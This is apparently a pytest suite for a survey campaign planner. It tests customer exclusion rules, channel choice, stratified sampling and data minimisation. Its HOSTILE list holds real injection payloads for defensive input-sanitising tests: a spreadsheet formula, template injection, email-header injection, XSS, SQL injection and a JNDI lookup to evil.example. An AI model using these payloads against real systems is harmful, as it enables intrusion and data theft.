"""Whom a campaign invites, by which channel, and why nobody else: planned, nothing sent."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest

from chalicelib.days import DAY_MS
from chalicelib.invitations import contact_rule, record
from chalicelib.invitations.invitation import Invitation
from chalicelib.published import publish
from chalicelib.storage import MemoryStore
from generator.customers import Customers
from generator.planning import Asked, Plan, invitations, plan
from generator.recognition import guess
from generator.schedule import Schedule
from tests.surveys import after_sales

KEY = b"a secret of tests"
NOON = 1_780_286_400_000
"""12:00 in Shanghai on 1 June 2026."""
SURVEY = msgspec.structs.replace(after_sales(), attributes=["customer", "agent", "tier"])
TIMES = Schedule(NOON, None, NOON + 14 * DAY_MS)
HEADER = ["customer", "name", "phone", "email", "tier"]


@pytest.fixture
def store() -> MemoryStore:
    store = MemoryStore()
    publish(store, SURVEY, 0)
    return store


class Planned:
    """A plan, and whom it invites."""

    def __init__(
        self, store: MemoryStore, folder: Path, rows: Sequence[Sequence[str]], **told: Any
    ) -> None:
        file = folder / "june.csv"
        with file.open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows(rows)
        asked = Asked(**{"campaign": "june", "schedule": TIMES, **told})
        meaning = guess(rows[0], SURVEY)
        customers = Customers(file, ["phone"], SURVEY.timezone)
        self.plan: Plan = plan(store, KEY, SURVEY, customers, meaning, asked, NOON)
        self.invited: list[Invitation] = list(
            invitations(self.plan, customers, SURVEY, meaning, asked)
        )

    @property
    def whom(self) -> list[str]:
        return [each.customer for each in self.invited]

    @property
    def said(self) -> dict[int, str]:
        return {problem.row: problem.what for problem in self.plan.problems}


def customer(number: int, tier: str = "plain") -> list[str]:
    return [f"C{number}", f"N{number}", f"{13800138000 + number}", f"c{number}@example.com", tier]


def test_everybody_who_is_left_out_is_left_out_for_one_reason(
    store: MemoryStore, tmp_path: Path
) -> None:
    contact_rule.opt_out(store, contact_rule.person(KEY, "", "+8613800138007"), NOON)
    asked = {"x": contact_rule.person(KEY, "C8")}
    contact_rule.claim(store, asked, 30, NOON - 29 * DAY_MS)
    rows = [
        HEADER,
        customer(1),
        ["C2", "no address", "无", "N/A", ""],
        ["C3", "bad address", "1380013", "c3@", ""],
        ["C4", "x" * 300, "13800138004", "", "y" * 300],
        customer(1),
        ["C6", "another of C1's address", "", "C1@EXAMPLE.com", ""],
        customer(7),
        customer(8),
        [*customer(9), "one cell more"],
        customer(10, "staff"),
        customer(11),
    ]
    planned = Planned(store, tmp_path, rows, where="tier is null or tier <> 'staff'")
    assert planned.plan.campaign.exclusions == {
        "unreadable": 1,
        "filtered": 1,
        "no_channel": 1,
        "bad_address": 1,
        "bad_value": 1,
        "duplicate": 2,
        "opted_out": 1,
        "asked": 1,
    }
    assert planned.whom == ["C1", "C11"]
    assert planned.said == {
        3: "email, phone: empty; fill in one",
        4: "email: is no e-mail address; phone: is no telephone number there is; "
        "digits are missing, or too many",
        5: "tier: Use at most 200 characters",
        6: "the same customer or address as row 2",
        7: "the same customer or address as row 2",
        10: "more cells than the header has columns",
    }


def test_the_contact_rule_ends_when_its_days_are_over(store: MemoryStore, tmp_path: Path) -> None:
    asked = {"x": contact_rule.person(KEY, "", "c1@example.com")}
    contact_rule.claim(store, asked, 30, NOON - 20 * DAY_MS)
    rows = [HEADER, customer(1)]
    assert Planned(store, tmp_path, rows, contact_rule_days=30).whom == []
    assert Planned(store, tmp_path, rows, contact_rule_days=20).whom == ["C1"]
    assert Planned(store, tmp_path, rows, contact_rule_days=0).whom == ["C1"]


def test_who_opted_out_by_telephone_gets_no_email_either(
    store: MemoryStore, tmp_path: Path
) -> None:
    contact_rule.opt_out(store, contact_rule.person(KEY, "", "+8613800138001"), NOON)
    found = Planned(store, tmp_path, [HEADER, customer(1)], channels=("email",))
    assert found.plan.campaign.exclusions == {"opted_out": 1}


def test_each_is_asked_by_the_first_channel_that_reaches_them(
    store: MemoryStore, tmp_path: Path
) -> None:
    rows = [
        [*HEADER, "首选渠道", "language"],
        [*customer(1), "", "English"],
        ["C2", "", "13800138002", "", "", "", "zh_CN"],
        ["C3", "", "13800138003", "not@right", "", "email", "fr"],
        [*customer(4), "短信", ""],
        [*customer(5), "wechat", "en-GB"],
    ]
    found = Planned(store, tmp_path, rows, channels=("email", "sms")).invited
    assert [(e.customer, e.channel, e.to, e.language) for e in found] == [
        ("C1", "email", "c1@example.com", "en"),
        ("C2", "sms", "+8613800138002", "zh-CN"),
        ("C3", "sms", "+8613800138003", "zh-CN"),
        ("C4", "sms", "+8613800138004", "zh-CN"),
        ("C5", "email", "c5@example.com", "en"),
    ]


def test_planned_again_a_customer_is_the_same_invitation(
    store: MemoryStore, tmp_path: Path
) -> None:
    """By their number, else by their address, however it is written; in this campaign alone."""
    rows = [HEADER, customer(1), ["", "", "138 0013 8002", "", ""]]
    again = [HEADER, ["", "", "+86 13800138002", "", ""], ["C1", "", "", "new@example.com", ""]]
    ids = {each.id for each in Planned(store, tmp_path, rows).invited}
    assert {each.id for each in Planned(store, tmp_path, again).invited} == ids
    other = Planned(store, tmp_path, rows, campaign="july").invited
    assert ids.isdisjoint({each.id for each in other})


def test_a_sample_is_drawn_by_strata_and_its_frame_is_kept(
    store: MemoryStore, tmp_path: Path
) -> None:
    """The response rate's denominator: who could be drawn, who was, and by what."""
    tiers = ["VIP"] * 47 + ["new"] * 16 + [""] * 37
    rows = [HEADER, *(customer(at, tier) for at, tier in enumerate(tiers))]
    rows.append(["C999", "nobody", "", "", "VIP"])  # cannot be reached: not in the frame
    found = Planned(store, tmp_path, rows, sample="10%", by="tier", seed="s")
    campaign = found.plan.campaign
    assert campaign.frame == {
        "": {"eligible": 37, "drawn": 4},
        "VIP": {"eligible": 47, "drawn": 5},
        "new": {"eligible": 16, "drawn": 1},
    }
    assert campaign.sample == {"of": "10%", "by": "tier", "seed": "s"}
    assert campaign.exclusions == {"no_channel": 1, "not_drawn": 90}
    assert [each.stratum for each in found.invited].count("VIP") == 5
    rows[1:] = reversed(rows[1:])
    again = Planned(store, tmp_path, rows, sample="10%", by="tier", seed="s")
    assert set(again.whom) == set(found.whom)
    other = Planned(store, tmp_path, rows, sample="10%", by="tier")
    assert len(other.plan.campaign.sample["seed"]) == 16
    assert set(other.whom) != set(found.whom)


HOSTILE = [
    '=HYPERLINK("http://evil.example","x")',
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "a\r\nBcc: x@evil.example",
    "a\u2028Bcc: x@evil.example",
    "<script>alert(1)</script>",
    "'; drop table rows; --",
    "\x1b[2J\x00",
    "${jndi:ldap://evil.example}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_file_says_of_a_customer_stays_a_text_on_one_line(
    store: MemoryStore, tmp_path: Path, text: str
) -> None:
    """In every column, under a header as hostile."""
    rows = [
        [*HEADER, text, "服务"],
        [text, text, "13800138001", "c1@example.com", text, text, text],
    ]
    [found] = Planned(store, tmp_path, rows).invited
    assert found.to == "c1@example.com"
    for value in [*found.fields.values(), found.channel, found.language]:
        assert len(value.splitlines()) <= 1
        assert not any(ord(sign) < 32 for sign in value)
    assert set(found.fields) == {"name", "service", "tier"}
    in_addresses = [HEADER, ["C1", "", text, text, ""]]
    nobody = Planned(store, tmp_path, in_addresses, channels=("email", "sms", "wechat"))
    assert nobody.plan.campaign.exclusions == {"bad_address": 1}


def test_a_name_is_no_essay(store: MemoryStore, tmp_path: Path) -> None:
    [found] = Planned(store, tmp_path, [HEADER, ["C1", "长" * 5000, "13800138001", "", ""]]).invited
    assert found.fields["name"] == "长" * 100


def test_the_link_knows_what_the_survey_declares_and_nothing_else(
    store: MemoryStore, tmp_path: Path
) -> None:
    rows = [[*HEADER, "agent", "birthday", "身份证"], [*customer(1), "A7", "1990-01-01", "X"]]
    planned = Planned(store, tmp_path, rows)
    [found] = planned.invited
    assert found.attributes == {"customer": "C1", "agent": "A7", "tier": "plain"}
    assert found.fields == {"name": "N1", "agent": "A7", "tier": "plain"}
    assert record.create(store, KEY, planned.plan.campaign, planned.invited) == 1
    everything = b"".join(store.get(entry.key).data for entry in store.list(""))
    assert b"1990-01-01" not in everything
